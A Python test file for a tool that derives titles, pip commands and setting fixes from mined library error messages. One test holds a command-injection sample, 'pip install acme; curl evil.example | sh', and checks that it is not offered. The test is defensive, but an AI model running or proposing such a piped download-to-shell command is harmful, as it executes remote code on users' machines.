"""errkb._derive: a mined record's title, fix and check, from its message and its sentence.

The messages are those of real mined records (records/mined/*.jsonl), with the values a
real message would hold in their holes.
"""

from __future__ import annotations

import pytest

from errkb import _derive
from errkb.records import record_from_dict
from errkb.testing import record_dict


def _mined(message: str, pattern: str | None = None, **fields):
    """A mined record whose message is ``message`` (a template when ``pattern`` is given)."""
    import regex

    fields.setdefault("tags", ["mined", "raise", "python"])
    data = record_dict(
        id="mined-test-000000000001",
        slug="test-000001",
        errorMessage=message,
        messagePattern=pattern if pattern is not None else regex.escape(message),
        **fields,
    )
    record, problems = record_from_dict(data)
    assert [] == problems
    return record


def _fix_of(message: str, pattern: str | None = None, seen: str | None = None, **fields):
    record = _mined(message, pattern, **fields)
    return _derive.fix(record, _derive.message_of(record, seen or message))


@pytest.mark.parametrize(
    ("message", "expected"),
    [
        (  # transformers: "install X >= N"
            (
                "Calling `cuda()` is not supported for `4-bit` quantized models with the installed "
                "version of bitsandbytes. The current device is `cuda:0`. If you intended to move "
                "the model, please install bitsandbytes >= 0.43.2."
            ),
            "pip install 'bitsandbytes>=0.43.2'",
        ),
        (  # transformers: "pip install X" in backticks
            "MLflowCallback requires mlflow to be installed. Run `pip install mlflow`.",
            "pip install mlflow",
        ),
        (  # vLLM: extras are quoted for the shell
            "Ray accelerated DAG is not installed. Run `pip install ray[adag]` to install it.",
            "pip install 'ray[adag]'",
        ),
        (  # transformers: "please upgrade X", the version stated earlier in the message
            (
                "You are using torch==1.11.0, but torch>=1.12.0 is required to use PytorchGELUTanh. "
                "Please upgrade torch."
            ),
            "pip install 'torch>=1.12.0'",
        ),
        (  # accelerate's requirement in transformers
            (
                "ParallelismConfig requires accelerate>=1.10.0). Please upgrade accelerate to use "
                "this feature."
            ),
            "pip install 'accelerate>=1.10.0'",
        ),
        (  # "upgrade X to at least N"
            (
                "You current version of `autoawq` does not support module fusing, please upgrade "
                "`autoawq` package to at least 0.1.8."
            ),
            "pip install 'autoawq>=0.1.8'",
        ),
    ],
)
def test_an_install_or_upgrade_in_the_message_is_a_pip_command(message, expected):
    """The message's own install or upgrade instruction becomes the command to run."""
    fix = _fix_of(message)
    assert (expected, expected, "message") == (fix.text, fix.command, fix.source)


@pytest.mark.parametrize(
    ("message", "expected", "settings"),
    [
        (  # vLLM: "set `Y` to Z"
            "Batch chat completions do not support `n > 1`. Please set `n` to 1.",
            "set `n=1`",
            {"n": "1"},
        ),
        (  # transformers: "set `Y=Z`"
            "Sampling frames from a list of images is not supported! Set `do_sample_frames=False`.",
            "set `do_sample_frames=False`",
            {"do_sample_frames": "False"},
        ),
        (  # torch: "pass Z"
            (
                "torch.utils.checkpoint: the use_reentrant parameter should be passed explicitly. "
                "To maintain current behavior, pass use_reentrant=True. It is recommended that you "
                "use use_reentrant=False."
            ),
            "pass `use_reentrant=True`",
            {"use_reentrant": "True"},
        ),
        (  # transformers: "pass the argument `Z`"
            (
                "The repository for acme/m contains custom code which must be executed to correctly "
                "load the model.\nPlease pass the argument `trust_remote_code=True` to allow custom "
                "code to be run."
            ),
            "pass `trust_remote_code=True`",
            {"trust_remote_code": "True"},
        ),
    ],
)
def test_a_setting_in_the_message_is_a_setting(message, expected, settings):
    """The message's "set Y to Z", "set `Y=Z`" and "pass Z" become the setting and value."""
    fix = _fix_of(message)
    assert (expected, settings, None) == (fix.text, dict(fix.settings), fix.command)


def test_use_x_instead_is_the_replacement():
    """transformers: "Use `repo_id` instead." names what to use."""
    message = (
        "The `repo_path_or_name` argument is deprecated and will be removed in v5 of "
        "Transformers. Use `repo_id` instead."
    )
    assert "use `repo_id` instead" == _fix_of(message).text


def test_what_the_code_does_is_not_an_instruction():
    """vLLM: "Falling back to use xgrammar instead." says what vLLM did, not what to do."""
    message = (
        "lm-format-enforcer does not support grammar guided decoding. Falling back to use "
        "xgrammar instead."
    )
    assert _fix_of(message) is None


def test_a_holes_value_is_never_read_as_an_instruction():
    """Text the program put in a hole (another error) is not the record's advice."""
    fix = _fix_of(
        "Failed to import from vllm._C with {e}",
        r"Failed to import from vllm\._C with (?P<e>.+)",
        seen="Failed to import from vllm._C with RuntimeError('please install acme >= 1.0')",
    )
    assert fix is None


def test_an_instruction_whose_version_is_a_hole_without_a_value_gives_no_command():
    """``errkb show`` has no message: ``install X >= {v}`` cannot become a command."""
    record = _mined(
        "please install bitsandbytes >= {v}.", r"please install bitsandbytes >= (?P<v>.+)\."
    )
    fix = _derive.fix(record, _derive.message_of(record))
    assert fix is None or fix.command is None


def test_the_message_comes_before_the_condition():
    """A record whose message instructs and whose guard reads a config: the message wins."""
    fix = _fix_of(
        "Batch chat completions do not support `n > 1`. Please set `n` to 1.",
        documentation="Raised by serve when args.n > 1.",
    )
    assert ("message", "set `n=1`") == (fix.source, fix.text)


@pytest.mark.parametrize(
    ("documentation", "expected"),
    [
        (
            "Raised by LLMEngine._init_cache when self.model_config.max_model_len > max_seq_len.",
            "lower `max_model_len` (or raise `max_seq_len`, which bounds it)",
        ),
        (
            "Raised by UploadCommand.__init__ when args.every is not None and args.every <= 0.",
            "raise `every` above 0",
        ),
        (
            (
                "Raised by LoRAConfig.verify_with_scheduler_config when "
                "scheduler_config.max_num_batched_tokens > 65528."
            ),
            "lower `max_num_batched_tokens` to at most 65528",
        ),
        (
            "Raised by BaseRenderer._process_embeds when not self.model_config.enable_prompt_embeds.",
            "turn on `enable_prompt_embeds`",
        ),
        (
            "Raised by Wav2Vec2ForCTC.__init__ when config.vocab_size is None.",
            "set `vocab_size`",
        ),
        (
            'Raised by IBertIntermediate.__init__ when config.hidden_act != "gelu".',
            'set `hidden_act` to "gelu"',
        ),
    ],
)
def test_a_guard_on_a_config_names_the_setting(documentation, expected):
    """The guard condition, restated as the setting the user controls."""
    fix = _fix_of("Something about the engine went wrong here", documentation=documentation)
    assert ("condition", expected) == (fix.source, fix.text)


@pytest.mark.parametrize(
    "documentation",
    [
        "Raised by matmul_4bit when quant_state is None.",  # no config in the path
        "Raised by tpu_launcher when args.num_processes and args.num_processes != device_count().",
        "Raised by LLMEngine._validate_model_inputs when self.model_config.is_multimodal_model.",
        "Raised by _validate when parallel_config.dp_size != 1 or parallel_config.pcp_size != 1.",
        "Raised by f.",
    ],
)
def test_a_guard_that_names_no_setting_gives_no_fix(documentation):
    """A local, a guard that a value is set, a property of the model, an "or": no fix."""
    assert _fix_of("quant_state is required for this", documentation=documentation) is None


SKEW = {
    "schemaVersion": 2,
    "id": "skew-transformers-335a43b5c29f",
    "slug": "is_torch_greater_or_equal_than_1_11-removed-335a43",
    "errorMessage": "cannot import name 'is_torch_greater_or_equal_than_1_11' from "
    "'transformers.pytorch_utils'",
    "messagePattern": r"cannot import name 'is_torch_greater_or_equal_than_1_11' from "
    r"'transformers\.pytorch_utils'",
    "errorClass": "ImportError",
    "documentation": "`is_torch_greater_or_equal_than_1_11` was removed from "
    "`transformers.pytorch_utils` in transformers 4.38.2; the last release with it there is 4.36.2.",
    "solutions": [
        (
            "Update the code for transformers 4.38.2 and newer, which lack "
            "`is_torch_greater_or_equal_than_1_11`."
        ),
        "Or install the last release that has it: pip install 'transformers<4.38.2'.",
    ],
    "tags": ["mined", "skew"],
    "versions": {"distribution": "transformers", "first": "4.38.2", "checked": "5.24.0"},
    "skew": {
        "distribution": "transformers",
        "name": "transformers.pytorch_utils.is_torch_greater_or_equal_than_1_11",
        "change": "removed",
        "changedIn": "4.38.2",
        "lastBefore": "4.36.2",
    },
}


def test_a_skew_record_has_its_change_as_title_and_its_pin_as_fix():
    """The title "`X` was removed from transformers in 4.38.2", and the pin from its solutions."""
    record, _ = record_from_dict(SKEW)
    seen = _derive.message_of(record, SKEW["errorMessage"])
    assert (
        "`is_torch_greater_or_equal_than_1_11` was removed from transformers in 4.38.2"
        == _derive.title(record, seen)
    )
    fix = _derive.fix(record, seen)
    assert ("pip install 'transformers<4.38.2'", "skew") == (fix.text, fix.source)


@pytest.mark.parametrize(
    ("message", "pattern", "seen", "expected"),
    [
        (
            "Bad size {n}. Use less.",
            r"Bad size (?P<n>\d+)\. Use less\.",
            "Bad size 12. Use less.",
            "Bad size 12",
        ),
        (
            "Failed to import from vllm._C with {e}",
            r"Failed to import from vllm\._C with (?P<e>.+)",
            "Failed to import from vllm._C with ModuleNotFoundError(\"No module named 'vllm._C'\")",
            "Failed to import from vllm._C with \u2026",
        ),
        (
            "Failed to import from vllm._C with {e}",
            r"Failed to import from vllm\._C with (?P<e>.+)",
            "",
            "Failed to import from vllm._C with \u2026",
        ),
    ],
)
def test_the_title_is_the_first_clause_with_the_values_held(message, pattern, seen, expected):
    """Holes show their values when short, ``…`` when long or not seen."""
    record = _mined(message, pattern)
    assert expected == _derive.title(record, _derive.message_of(record, seen))


def test_a_long_title_is_cut_at_a_word():
    """At most 80 characters, cut at a word and marked."""
    message = "word " * 30 + "end"
    title = _derive.title(_mined(message), _derive.message_of(_mined(message), message))
    assert len(title) <= 80
    assert title.endswith("word\u2026")


def test_a_native_check_keeps_the_miner_s_failing_condition():
    """The miner already states when TORCH_CHECK(cond, msg) raises (cond turned round): kept."""
    doc = "Raised by grouped_topk when input_size.size() != 2."
    record = _mined(
        "scores must be a 2D Tensor", documentation=doc, tags=["mined", "native", "c++"]
    )
    assert doc == _derive.check(record)


def test_a_python_record_keeps_its_sentence():
    """A Python raise's condition is when it raises: the sentence is kept as written."""
    doc = "Raised by matmul_4bit when quant_state is None."
    assert doc == _derive.check(_mined("quant_state is required", documentation=doc))


def test_a_command_with_shell_syntax_is_not_offered():
    """A hole's value inside a pip command (text errkb does not trust) cannot add a command."""
    fix = _fix_of(
        "Run `pip install {pkg}` first.",
        r"Run `pip install (?P<pkg>.+?)` first\.",
        seen="Run `pip install acme; curl evil.example | sh` first.",
    )
    assert fix is None or fix.command is None


def test_a_module_level_check_names_the_file_of_the_release_in_use():
    """vLLM 0.9.2 logs it in vllm/_custom_ops.py, not in the newest release's rocm.py."""
    record = _mined(
        "Failed to import from vllm._C with something",
        documentation="Logged at module level in vllm/platforms/rocm.py.",
        filePath="vllm/platforms/rocm.py",
    )
    assert "Logged at module level in vllm/_custom_ops.py." == _derive.check(
        record, "vllm/_custom_ops.py"
    )
    assert "Logged at module level in vllm/platforms/rocm.py." == _derive.check(record)


def test_a_skew_change_not_placed_exactly_is_titled_between_the_releases_read():
    """skew.exact false: the title names the two releases read, not one that was not checked."""
    data = dict(SKEW, skew=dict(SKEW["skew"], lastBefore="4.36.2", exact=False))
    record, _ = record_from_dict(data)
    seen = _derive.message_of(record, SKEW["errorMessage"])
    assert (
        "`is_torch_greater_or_equal_than_1_11` was removed from transformers between 4.36.2 "
        "and 4.38.2" == _derive.title(record, seen)
    )
